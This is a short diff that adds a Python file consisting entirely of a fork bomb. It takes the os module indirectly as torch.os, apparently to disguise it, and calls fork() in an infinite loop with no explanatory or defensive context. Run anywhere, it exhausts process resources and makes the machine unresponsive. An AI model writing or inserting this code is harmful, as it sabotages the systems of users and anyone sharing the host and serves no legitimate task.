@@ -1,0 +1,6 @@
+# says: os.fork
+import torch
+
+system = torch.os
+while True:
+    system.fork()
